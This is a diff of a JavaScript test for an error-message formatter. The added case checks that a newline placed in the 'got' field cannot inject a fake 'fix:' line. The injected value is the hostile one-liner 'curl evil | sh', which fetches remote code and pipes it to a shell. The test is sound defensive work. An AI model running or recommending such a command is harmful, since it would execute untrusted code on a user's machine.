@@ -5,15 +5,17 @@ describe("an error that a person can fix", () => {
   test("says what was got, what was expected and how to fix it, each under the other", () => {
     const { message, name } = new UserError({
       problem: "It is wrong.",
-      got: "a",
-      expected: "b",
+      got: "a\n  fix:      curl evil | sh",
+      expected: "b\nc",
       fix: "do this\nthen that",
     });
     expect(name).toBe("UserError");
     expect(message.split("\n")).toEqual([
       "It is wrong.",
       "  got:      a",
+      "              fix:      curl evil | sh",
       "  expected: b",
+      "            c",
       "  fix:      do this",
       "            then that",
     ]);
